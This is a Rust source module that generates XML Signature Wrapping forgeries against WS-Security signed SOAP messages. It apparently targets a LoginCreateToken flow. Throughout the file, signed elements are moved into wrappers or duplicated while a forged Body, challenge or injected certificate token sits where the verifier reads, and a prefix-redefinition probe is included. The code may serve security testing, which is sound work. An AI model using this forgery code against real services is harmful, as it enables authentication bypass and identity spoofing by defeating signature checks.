//! Construction of XML Signature Wrapping documents from a signed message.
//!
//! Every transformation copies signed subtrees verbatim, so their
//! canonical form (and with it the original digest) survives. The payload
//! lands where a processor that reads fixed positions will pick it up.

use alloc::borrow::ToOwned;
use alloc::collections::{BTreeMap, BTreeSet};
use alloc::format;
use alloc::string::String;
use alloc::vec::Vec;
use core::fmt;

use crate::ns;
use crate::xml::{
    Element, IdRegistry, NamespaceDecl, NodePath, QName, XmlDocument, XmlError, XmlNode,
};
use crate::xmldsig::SignatureBlock;

/// URI the probe rebinds the document element's prefix to.
pub const PROBE_URI: &str = "urn:attacker:redefined";

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ForgeError {
    #[error("target not found: {0}")]
    TargetNotFound(String),
    #[error("document already carries this attack: {0}")]
    AlreadyAttacked(String),
    #[error("{0} needs a {1} payload")]
    MissingPayload(&'static str, &'static str),
    #[error("prefix {0:?} is already in use")]
    PrefixCollision(String),
    #[error(transparent)]
    Xml(#[from] XmlError),
}

/// Where the sibling-value certificate attack puts the injected token.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum CertPlacement {
    /// A second Security header after the original one.
    #[default]
    SecondSecurity,
    /// A second token at the end of the original Security header.
    SameSecurity,
    /// A second Header holding a Security header with the token.
    SecondHeader,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum AttackKind {
    SimpleAncestryChallenge,
    SimpleAncestryCertificate,
    SiblingValueChallenge,
    SiblingValueCertificate {
        placement: CertPlacement,
    },
    /// Replace `target` by an unsigned copy and keep the signed original in
    /// a new `wrapper` element placed right before the target's parent.
    GenericWrap {
        target: NodePath,
        wrapper: QName,
    },
    /// Remove `target`; its signed copy moves into the wrapper in Header.
    OptionalElementErase {
        target: NodePath,
    },
    /// Bind `prefix` to `new_uri` at the document element while every use
    /// outside signed content moves to a fresh prefix.
    PrefixRedefinition {
        prefix: String,
        new_uri: String,
    },
}

impl AttackKind {
    pub fn name(&self) -> &'static str {
        match self {
            Self::SimpleAncestryChallenge => "simple-ancestry-challenge",
            Self::SimpleAncestryCertificate => "simple-ancestry-certificate",
            Self::SiblingValueChallenge => "sibling-value-challenge",
            Self::SiblingValueCertificate { .. } => "sibling-value-certificate",
            Self::GenericWrap { .. } => "generic-wrap",
            Self::OptionalElementErase { .. } => "optional-element-erase",
            Self::PrefixRedefinition { .. } => "prefix-redefinition",
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Payload {
    Challenge(String),
    /// DER octets of the injected certificate.
    Certificate(Vec<u8>),
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AttackVariant {
    pub kind: AttackKind,
    pub payload: Option<Payload>,
    /// Element that receives relocated signed content inside Header.
    pub wrapper: QName,
}

impl AttackVariant {
    pub fn new(kind: AttackKind, payload: Option<Payload>) -> Self {
        Self {
            kind,
            payload,
            wrapper: QName::local("Wrapper"),
        }
    }

    pub fn simple_ancestry_challenge(challenge: &str) -> Self {
        Self::new(
            AttackKind::SimpleAncestryChallenge,
            Some(Payload::Challenge(challenge.into())),
        )
    }

    pub fn simple_ancestry_certificate(der: &[u8]) -> Self {
        Self::new(
            AttackKind::SimpleAncestryCertificate,
            Some(Payload::Certificate(der.to_vec())),
        )
    }

    pub fn sibling_value_challenge(challenge: &str) -> Self {
        Self::new(
            AttackKind::SiblingValueChallenge,
            Some(Payload::Challenge(challenge.into())),
        )
    }

    pub fn sibling_value_certificate(der: &[u8], placement: CertPlacement) -> Self {
        Self::new(
            AttackKind::SiblingValueCertificate { placement },
            Some(Payload::Certificate(der.to_vec())),
        )
    }

    pub fn prefix_redefinition(prefix: &str, new_uri: &str) -> Self {
        Self::new(
            AttackKind::PrefixRedefinition {
                prefix: prefix.into(),
                new_uri: new_uri.into(),
            },
            None,
        )
    }

    pub fn with_wrapper(mut self, wrapper: QName) -> Self {
        self.wrapper = wrapper;
        self
    }

    pub fn name(&self) -> &'static str {
        self.kind.name()
    }
}

impl fmt::Display for AttackVariant {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())?;
        if let AttackKind::SiblingValueCertificate { placement } = &self.kind {
            if *placement != CertPlacement::SecondSecurity {
                write!(f, "({placement:?})")?;
            }
        }
        Ok(())
    }
}

/// Applies `variant` to a signed document.
pub fn forge(doc: &XmlDocument, variant: &AttackVariant) -> Result<XmlDocument, ForgeError> {
    let registry = doc.registry().clone();
    let mut root = doc.root().clone();
    match &variant.kind {
        AttackKind::SimpleAncestryChallenge => {
            let challenge = challenge_payload(variant)?;
            let body = locate(doc, &[ns::body()])?;
            if wrapper_holds(doc, &variant.wrapper, &ns::body()) {
                return Err(ForgeError::AlreadyAttacked("Body already wrapped".into()));
            }
            let signed = doc.get(&body).expect("located").clone();
            let fake = unsigned_challenge_body(&signed, &registry, challenge)?;
            *body.resolve_in_mut(&mut root).expect("located") = fake;
            wrap_into_header(&mut root, &variant.wrapper, signed)?;
        }
        AttackKind::SimpleAncestryCertificate => {
            let der = certificate_payload(variant)?;
            let token = locate(
                doc,
                &[ns::header(), ns::security(), ns::binary_security_token()],
            )?;
            if wrapper_holds(doc, &variant.wrapper, &ns::binary_security_token()) {
                return Err(ForgeError::AlreadyAttacked("token already wrapped".into()));
            }
            let signed = doc.get(&token).expect("located").clone();
            *token.resolve_in_mut(&mut root).expect("located") =
                injected_token(&signed, &registry, der);
            wrap_into_header(&mut root, &variant.wrapper, signed)?;
        }
        AttackKind::SiblingValueChallenge => {
            let challenge = challenge_payload(variant)?;
            let body = locate(doc, &[ns::body()])?;
            if count_children(doc.root(), &ns::body()) > 1 {
                return Err(ForgeError::AlreadyAttacked("second Body present".into()));
            }
            let fake =
                unsigned_challenge_body(doc.get(&body).expect("located"), &registry, challenge)?;
            insert_after(&mut root, body.last_index(), fake);
        }
        AttackKind::SiblingValueCertificate { placement } => {
            let der = certificate_payload(variant)?;
            let header = locate(doc, &[ns::header()])?;
            let security = locate(doc, &[ns::header(), ns::security()])?;
            let token = locate(
                doc,
                &[ns::header(), ns::security(), ns::binary_security_token()],
            )?;
            let original = doc.get(&token).expect("located");
            let injected = injected_token(original, &registry, der);
            let sec_el = doc.get(&security).expect("located");
            let fresh_security = || {
                Element::new(ns::security(), sec_el.prefix.as_deref()).with_child(injected.clone())
            };
            match placement {
                CertPlacement::SecondSecurity => {
                    if count_children(doc.get(&header).expect("located"), &ns::security()) > 1 {
                        return Err(ForgeError::AlreadyAttacked(
                            "second Security present".into(),
                        ));
                    }
                    let h = header.resolve_in_mut(&mut root).expect("located");
                    insert_after(h, security.last_index(), fresh_security());
                }
                CertPlacement::SameSecurity => {
                    if count_children(sec_el, &ns::binary_security_token()) > 1 {
                        return Err(ForgeError::AlreadyAttacked("second token present".into()));
                    }
                    let s = security.resolve_in_mut(&mut root).expect("located");
                    s.children.push(XmlNode::Element(injected));
                }
                CertPlacement::SecondHeader => {
                    if count_children(doc.root(), &ns::header()) > 1 {
                        return Err(ForgeError::AlreadyAttacked("second Header present".into()));
                    }
                    let h = doc.get(&header).expect("located");
                    let second = Element::new(ns::header(), h.prefix.as_deref())
                        .with_child(fresh_security());
                    insert_after(&mut root, header.last_index(), second);
                }
            }
        }
        AttackKind::GenericWrap { target, wrapper } => {
            let original = doc
                .get(target)
                .ok_or_else(|| ForgeError::TargetNotFound(format!("{target}")))?;
            let parent = target.parent().ok_or_else(|| {
                ForgeError::TargetNotFound("the document element cannot be wrapped".into())
            })?;
            let grandparent = parent.parent().ok_or_else(|| {
                ForgeError::TargetNotFound("target's parent is the document element".into())
            })?;
            let gp = doc.get(&grandparent).expect("ancestor exists");
            let around = |offset: isize| {
                let i = parent.last_index() as isize + offset;
                usize::try_from(i)
                    .ok()
                    .and_then(|i| gp.child_elements().nth(i))
            };
            if [around(-1), around(1)]
                .into_iter()
                .flatten()
                .any(|s| &s.name == wrapper && s.first_child(&original.name).is_some())
            {
                return Err(ForgeError::AlreadyAttacked(format!(
                    "{wrapper} beside {}",
                    parent.name()
                )));
            }
            let mut copy = original.clone();
            strip_ids(&mut copy, &registry);
            if let Some(Payload::Challenge(text)) = &variant.payload {
                copy.set_text(text);
            }
            let signed = original.clone();
            *target.resolve_in_mut(&mut root).expect("resolved") = copy;
            let prefix = if wrapper.namespace_uri().is_empty() {
                None
            } else if wrapper.namespace_uri() == parent.name().namespace_uri() {
                doc.get(&parent).and_then(|p| p.prefix.clone())
            } else {
                Some("w".to_owned())
            };
            let w = Element::new(wrapper.clone(), prefix.as_deref()).with_child(signed);
            let gp = grandparent.resolve_in_mut(&mut root).expect("resolved");
            insert_before(gp, parent.last_index(), w);
        }
        AttackKind::OptionalElementErase { target } => {
            let original = doc
                .get(target)
                .ok_or_else(|| ForgeError::TargetNotFound(format!("{target}")))?
                .clone();
            let parent = target.parent().ok_or_else(|| {
                ForgeError::TargetNotFound("the document element cannot be erased".into())
            })?;
            locate(doc, &[ns::header()])?;
            if wrapper_holds(doc, &variant.wrapper, &original.name) {
                return Err(ForgeError::AlreadyAttacked(format!(
                    "{} already wrapped",
                    original.name
                )));
            }
            let p = parent.resolve_in_mut(&mut root).expect("resolved");
            let slot = p.child_slot(target.last_index()).expect("resolved");
            p.children.remove(slot);
            wrap_into_header(&mut root, &variant.wrapper, original)?;
        }
        AttackKind::PrefixRedefinition { prefix, new_uri } => {
            return redefine_prefix(doc, prefix, new_uri);
        }
    }
    Ok(XmlDocument::from_root_with(root, registry)?)
}

/// The four LoginCreateToken attacks followed by the prefix probe.
pub fn forge_all(
    doc: &XmlDocument,
    fresh_challenge: &str,
    injected_cert: &[u8],
) -> Result<Vec<(AttackVariant, XmlDocument)>, ForgeError> {
    let mut variants = alloc::vec![
        AttackVariant::simple_ancestry_challenge(fresh_challenge),
        AttackVariant::simple_ancestry_certificate(injected_cert),
        AttackVariant::sibling_value_challenge(fresh_challenge),
        AttackVariant::sibling_value_certificate(injected_cert, CertPlacement::SecondSecurity),
    ];
    let root_prefix = doc
        .root()
        .prefix
        .clone()
        .ok_or_else(|| ForgeError::TargetNotFound("document element has no prefix".into()))?;
    variants.push(AttackVariant::prefix_redefinition(&root_prefix, PROBE_URI));
    variants
        .into_iter()
        .map(|v| forge(doc, &v).map(|d| (v, d)))
        .collect()
}

fn challenge_payload(v: &AttackVariant) -> Result<&str, ForgeError> {
    match &v.payload {
        Some(Payload::Challenge(c)) => Ok(c),
        _ => Err(ForgeError::MissingPayload(v.name(), "challenge")),
    }
}

fn certificate_payload(v: &AttackVariant) -> Result<&[u8], ForgeError> {
    match &v.payload {
        Some(Payload::Certificate(c)) => Ok(c),
        _ => Err(ForgeError::MissingPayload(v.name(), "certificate")),
    }
}

/// First element along `names` below the document element.
fn locate(doc: &XmlDocument, names: &[QName]) -> Result<NodePath, ForgeError> {
    let mut path = doc.root_path();
    let mut cur = doc.root();
    for name in names {
        let (i, e) = cur
            .child_elements()
            .enumerate()
            .find(|(_, e)| &e.name == name)
            .ok_or_else(|| ForgeError::TargetNotFound(format!("{name}")))?;
        path = path.child(i, name.clone());
        cur = e;
    }
    Ok(path)
}

fn count_children(e: &Element, name: &QName) -> usize {
    e.child_elements().filter(|c| &c.name == name).count()
}

fn wrapper_holds(doc: &XmlDocument, wrapper: &QName, inner: &QName) -> bool {
    doc.root()
        .child_elements()
        .filter(|h| h.name == ns::header())
        .flat_map(|h| h.child_elements())
        .any(|w| &w.name == wrapper && w.first_child(inner).is_some())
}

fn strip_ids(e: &mut Element, registry: &IdRegistry) {
    e.attributes.retain(|a| !registry.is_id(&a.name));
    for c in e.child_elements_mut() {
        strip_ids(c, registry);
    }
}

fn unsigned_challenge_body(
    signed: &Element,
    registry: &IdRegistry,
    challenge: &str,
) -> Result<Element, ForgeError> {
    let mut body = signed.clone();
    strip_ids(&mut body, registry);
    let c = body
        .child_elements_mut()
        .find(|e| e.name == ns::challenge())
        .ok_or_else(|| ForgeError::TargetNotFound(format!("{}", ns::challenge())))?;
    c.set_text(challenge);
    Ok(body)
}

fn injected_token(original: &Element, registry: &IdRegistry, der: &[u8]) -> Element {
    use base64::Engine;
    let mut token = original.clone();
    strip_ids(&mut token, registry);
    token.set_text(&base64::engine::general_purpose::STANDARD.encode(der));
    token
}

/// Appends `content` inside a new wrapper element at the end of Header.
fn wrap_into_header(
    root: &mut Element,
    wrapper: &QName,
    content: Element,
) -> Result<(), ForgeError> {
    let header = root
        .child_elements_mut()
        .find(|e| e.name == ns::header())
        .ok_or_else(|| ForgeError::TargetNotFound(format!("{}", ns::header())))?;
    let prefix = (!wrapper.namespace_uri().is_empty()).then_some("w");
    header.children.push(XmlNode::Element(
        Element::new(wrapper.clone(), prefix).with_child(content),
    ));
    Ok(())
}

fn insert_after(parent: &mut Element, element_index: usize, new: Element) {
    let slot = parent
        .child_slot(element_index)
        .expect("index from a resolved path");
    parent.children.insert(slot + 1, XmlNode::Element(new));
}

fn insert_before(parent: &mut Element, element_index: usize, new: Element) {
    let slot = parent
        .child_slot(element_index)
        .expect("index from a resolved path");
    parent.children.insert(slot, XmlNode::Element(new));
}

/// Signed content: every Signature subtree and the first element each
/// `#id` reference points to. Exclusive C14N puts prefixes into the
/// signed octets, so these subtrees keep theirs.
pub fn signed_subtrees(doc: &XmlDocument) -> Vec<NodePath> {
    let mut out = Vec::new();
    for (path, sig) in doc.find_all(&ns::signature()) {
        if let Ok(block) = SignatureBlock::parse(sig, &path) {
            for r in &block.references {
                let target = match r.uri.as_deref() {
                    Some(u) => u.strip_prefix('#').and_then(|id| doc.first_id_match(id)),
                    None => None,
                };
                out.extend(target);
            }
        }
        out.push(path);
    }
    out
}

fn prefixes_in(e: &Element, out: &mut BTreeSet<String>) {
    out.extend(e.prefix.clone());
    out.extend(e.attributes.iter().filter_map(|a| a.prefix.clone()));
    out.extend(e.namespace_decls.iter().filter_map(|d| d.prefix.clone()));
    for c in e.child_elements() {
        prefixes_in(c, out);
    }
}

/// Renames prefixes everywhere outside `preserve` (subtree roots). `rename`
/// returns the new name or `None` to keep a prefix. Declarations are
/// regenerated; preserved subtrees get local declarations for any prefix
/// they still use. `xml` is never renamed.
pub fn rebind_prefixes(
    doc: &XmlDocument,
    preserve: &[NodePath],
    rename: impl FnMut(&str) -> Option<String>,
) -> Result<XmlDocument, ForgeError> {
    let root = rebound_root(doc, preserve, rename)?;
    Ok(XmlDocument::from_root_with(root, doc.registry().clone())?)
}

fn rebound_root(
    doc: &XmlDocument,
    preserve: &[NodePath],
    mut rename: impl FnMut(&str) -> Option<String>,
) -> Result<Element, ForgeError> {
    let mut existing = BTreeSet::new();
    prefixes_in(doc.root(), &mut existing);
    let mut map = BTreeMap::new();
    let mut taken = BTreeSet::new();
    for p in &existing {
        if p == "xml" {
            continue;
        }
        if let Some(new) = rename(p) {
            if new == "xml" || existing.contains(&new) || !taken.insert(new.clone()) {
                return Err(ForgeError::PrefixCollision(new));
            }
            map.insert(p.clone(), new);
        }
    }

    fn go(e: &mut Element, path: &NodePath, preserve: &[NodePath], map: &BTreeMap<String, String>) {
        if preserve.iter().any(|p| p == path || p.is_ancestor_of(path)) {
            return;
        }
        let renamed = |p: &mut Option<String>| {
            if let Some(new) = p.as_ref().and_then(|old| map.get(old)) {
                *p = Some(new.clone());
            }
        };
        renamed(&mut e.prefix);
        for a in &mut e.attributes {
            renamed(&mut a.prefix);
        }
        e.namespace_decls
            .retain(|d| d.prefix.as_ref().is_none_or(|p| !map.contains_key(p)));
        let children: Vec<QName> = e.child_elements().map(|c| c.name.clone()).collect();
        for (i, (c, name)) in e.child_elements_mut().zip(children).enumerate() {
            go(c, &path.child(i, name), preserve, map);
        }
    }
    let mut root = doc.root().clone();
    go(&mut root, &doc.root_path(), preserve, &map);
    Ok(root)
}

fn redefine_prefix(
    doc: &XmlDocument,
    prefix: &str,
    new_uri: &str,
) -> Result<XmlDocument, ForgeError> {
    let root = doc.root();
    if root
        .namespace_decls
        .iter()
        .any(|d| d.prefix.as_deref() == Some(prefix) && d.uri == new_uri)
    {
        return Err(ForgeError::AlreadyAttacked(format!(
            "{prefix} already bound to {new_uri}"
        )));
    }
    let mut existing = BTreeSet::new();
    prefixes_in(root, &mut existing);
    if !existing.contains(prefix) {
        return Err(ForgeError::TargetNotFound(format!("prefix {prefix:?}")));
    }
    let fresh = (0..)
        .map(|n| format!("{prefix}{n}"))
        .find(|c| !existing.contains(c))
        .expect("unbounded");
    let preserve = signed_subtrees(doc);
    let mut root = rebound_root(doc, &preserve, |p| (p == prefix).then(|| fresh.clone()))?;
    root.namespace_decls
        .insert(0, NamespaceDecl::new(Some(prefix), new_uri));
    Ok(XmlDocument::from_root_with(root, doc.registry().clone())?)
}
